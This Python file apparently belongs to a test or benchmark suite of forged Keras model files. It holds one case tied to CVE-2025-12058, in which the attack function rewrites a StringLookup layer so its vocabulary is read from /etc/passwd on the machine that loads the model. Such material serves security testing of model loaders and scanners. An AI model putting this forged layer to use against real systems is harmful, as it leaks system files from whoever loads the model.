"""A StringLookup that takes its words from a file on the grader's machine (CVE-2025-12058)."""

from pathlib import Path

from forging import BOTH, replace_layer

FORMATS = BOTH
CHECK, SAYS = "format", "'/etc/passwd'"


def attack(path: Path) -> None:
    inner = {"name": "lookup", "vocabulary": "/etc/passwd"}
    replace_layer(
        path, {"module": "keras.layers", "class_name": "StringLookup", "config": inner, "registered_name": None}
    )
